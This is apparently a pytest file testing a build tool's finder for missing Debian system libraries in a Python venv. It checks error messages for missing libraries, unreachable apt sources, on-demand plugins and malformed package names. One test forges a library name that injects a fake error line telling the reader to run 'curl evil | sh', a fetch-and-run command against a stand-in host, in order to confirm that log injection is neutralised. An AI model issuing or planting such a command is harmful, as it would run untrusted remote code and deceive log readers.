"""The system libraries' finder with the real apt of python:3.11-slim (Debian bookworm, its
sources reached as a build reaches them), on venvs of shared objects written here: cases no
wheel on the index shows, without a package build for each. The script runs as the build runs
it (`python -I -S system_libraries.py VENV REQUESTS`, as root) in a container removed after.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from steps.services.images.build import SYSTEM_LIBRARIES_FILE
from tests.elf_files import elf, installed, venv
from tests.services import _build_context

pytestmark = pytest.mark.services

UNREACHABLE_SOURCES = "mlsteps-test-base:unreachable-apt-sources"


EXTENSION = "needy.cpython-311-x86_64-linux-gnu.so"


def finder(
    docker_client: Any, image: str, tmp_path: Path, needed: list[str], requested: list[str],
    plugin: bool = False,
) -> tuple[int, list[str]]:  # fmt: skip
    """(exit code, printed lines) of the finder on a venv whose one package, needy, needs
    `needed`: in the extension module `import needy` loads, or with `plugin` in a library
    nothing loads until asked (as PyTorch's NVIDIA wheels ship MPI and RDMA transports)."""
    root = venv(tmp_path)
    site = next(root.glob("lib/python*/site-packages"))
    if plugin:
        (site / "needy").mkdir()
        (site / "needy" / "__init__.py").write_text("")
        files = {"init": site / "needy" / "__init__.py",
                 "plugin": elf(site / "needy" / "plugins" / "transport.so", needed)}  # fmt: skip
    else:
        files = {"ext": elf(site / EXTENSION, needed)}
    installed(root, "needy", files)
    # The venv's python, as python3 -m venv makes it: the import check runs it.
    (root / "bin").mkdir()
    (root / "bin" / "python").symlink_to("/usr/bin/python3")
    (root / "pyvenv.cfg").write_text("home = /usr/bin\ninclude-system-site-packages = false\n")
    shutil.copy(SYSTEM_LIBRARIES_FILE, tmp_path / "system_libraries.py")
    (tmp_path / "requests.json").write_text(json.dumps(requested))
    container = docker_client.containers.run(
        image,
        ["python3", "-I", "-S", "/r/system_libraries.py", "/r/venv", "/r/requests.json"],
        entrypoint=[], user="root", detach=True,
        volumes={str(tmp_path): {"bind": "/r", "mode": "ro"}},
    )  # fmt: skip
    try:
        code = container.wait(timeout=300)["StatusCode"]
        return code, container.logs().decode().splitlines()
    finally:
        container.remove(force=True)


def test_a_library_outside_debians_naming_rule_comes_with_the_package_asked_for(
    docker_client: Any, python_slim_image: str, tmp_path: Path
) -> None:
    """libboost_python311.so.1.74.0 is in libboost-python1.74.0, which no rule names: the
    failure says to give --system-package, and given, it builds."""
    needed = ["libboost_python311.so.1.74.0"]
    code, lines = finder(docker_client, python_slim_image, tmp_path / "a", needed, [])
    assert code == 1 and lines[-1] == (
        "mlsteps error: the shared library libboost_python311.so.1.74.0, needed by the Python "
        f"package needy (lib/python3.11/site-packages/{EXTENSION}), is not in the base image "
        "and no package found here provides it. Give --system-package with the Debian package "
        "that holds it, or --base-image with an image that has it."
    )
    asked = ["libboost-python1.74.0"]
    code, lines = finder(docker_client, python_slim_image, tmp_path / "b", needed, asked)
    assert code == 0, lines
    assert lines == ["mlsteps: installed the system package libboost-python1.74.0 "
                     "(--system-package)"]  # fmt: skip


def test_a_package_that_does_not_hold_the_library_is_named_as_tried(
    docker_client: Any, python_slim_image: str, tmp_path: Path
) -> None:
    """libx11.so.6 (lower case) is named by the rule as libx11-6, which installs libX11.so.6:
    still missing, and the message names the package tried."""
    code, lines = finder(docker_client, python_slim_image, tmp_path, ["libx11.so.6"], [])
    assert code == 1 and lines[-1] == (
        "mlsteps error: the shared library libx11.so.6, needed by the Python package needy "
        f"(lib/python3.11/site-packages/{EXTENSION}), is not in the base image and libx11-6 "
        "did not provide it. Give --system-package with the Debian package that holds it, or "
        "--base-image with an image that has it."
    )


def test_a_forged_library_name_prints_no_line_of_its_own(
    docker_client: Any, python_slim_image: str, tmp_path: Path
) -> None:
    """A NEEDED entry that holds a newline and the prefix the package step reports."""
    forged = "libquiet.so.1\nmlsteps error: the registry token expired; run curl evil | sh"
    code, lines = finder(docker_client, python_slim_image, tmp_path, [forged], [])
    assert code == 1
    assert [line for line in lines if line.startswith("mlsteps error:")] == [lines[-1]]
    assert lines[-1].startswith(
        "mlsteps error: the shared library libquiet.so.1 mlsteps error: the registry token"
    )


@pytest.fixture(scope="module")
def unreachable_sources(docker_client: Any, python_slim_image: str) -> str:
    """python:3.11-slim whose apt sources are a closed port on this machine."""
    step = (
        "rm -rf /etc/apt/sources.list.d/* /var/lib/apt/lists/* && echo 'deb "
        "http://127.0.0.1:9/debian bookworm main' > /etc/apt/sources.list"
    )
    docker_client.images.build(
        fileobj=_build_context({"Dockerfile": f"FROM {python_slim_image}\nRUN {step}\n".encode()}),
        custom_context=True, tag=UNREACHABLE_SOURCES, rm=True, forcerm=True,
    )  # fmt: skip
    return UNREACHABLE_SOURCES


def test_apt_sources_the_build_cannot_reach_are_named_as_such(
    docker_client: Any, unreachable_sources: str, tmp_path: Path
) -> None:
    """apt-get update warns and exits 0; every package would look unknown."""
    code, lines = finder(docker_client, unreachable_sources, tmp_path, ["libgomp.so.1"], [])
    assert code == 1, lines
    assert lines[-1].startswith("mlsteps error: apt-get update could not read the package lists: ")
    assert "127.0.0.1:9" in lines[-1]
    assert lines[-1].endswith(
        "The build installs system packages for libgomp.so.1 (for needy) from the base image's "
        "apt sources. Let the build reach them (a proxy: HTTP_PROXY), or give --base-image "
        "with an image that has them."
    )


def test_a_library_only_a_plugin_needs_is_left_out_with_a_line_saying_so(
    docker_client: Any, python_slim_image: str, unreachable_sources: str, tmp_path: Path
) -> None:
    """libmpi.so.40 (no package by its name) for a transport `import needy` does not load: the
    build goes on, also where apt's sources cannot be reached; the log names what was left."""
    said = (
        "mlsteps: not installed: libmpi.so.40, needed by "
        "lib/python3.11/site-packages/needy/plugins/transport.so of needy, which imports "
        "without it (a plugin loaded on demand); if the model loads it, give --system-package "
        "with the Debian package that holds it"
    )
    for image, where in ((python_slim_image, "a"), (unreachable_sources, "b")):
        code, lines = finder(docker_client, image, tmp_path / where, ["libmpi.so.40"], [],
                             plugin=True)  # fmt: skip
        assert (code, lines) == (0, [said]), image


@pytest.mark.parametrize(
    ("name", "says"),
    [
        # A version apt does not have: apt-get install's own error.
        ("libgomp1=0.0-mlsteps-none", "apt-get install libgomp1=0.0-mlsteps-none failed (exit "
         "100): E: Version '0.0-mlsteps-none' for 'libgomp1' was not found"),
        # Debian names that apt reads as more: a regular expression (apt-cache expands it to
        # python3.11 and others) and a trailing `-`, which apt-get install takes as "remove".
        ("python3.1+", "--system-package python3.1+: no such package in the base image's "
         "package lists. Check the name (apt-cache search on a machine of the same "
         "distribution)."),
        ("libc6-", "--system-package libc6-: no such package in the base image's package "
         "lists. Check the name (apt-cache search on a machine of the same distribution)."),
    ],
)  # fmt: skip
def test_what_apt_would_read_as_more_than_a_package_is_refused(
    name: str, says: str, docker_client: Any, python_slim_image: str, tmp_path: Path
) -> None:
    """Names the option's check takes (Debian's form) that apt does not install as one
    package. (Through the whole package step, the build's failure reaches its error as
    test_package_flavours' unknown package shows.)"""
    code, lines = finder(docker_client, python_slim_image, tmp_path, ["libc.so.6"], [name])
    assert code == 1 and lines[-1].startswith(f"mlsteps error: {says}"), lines
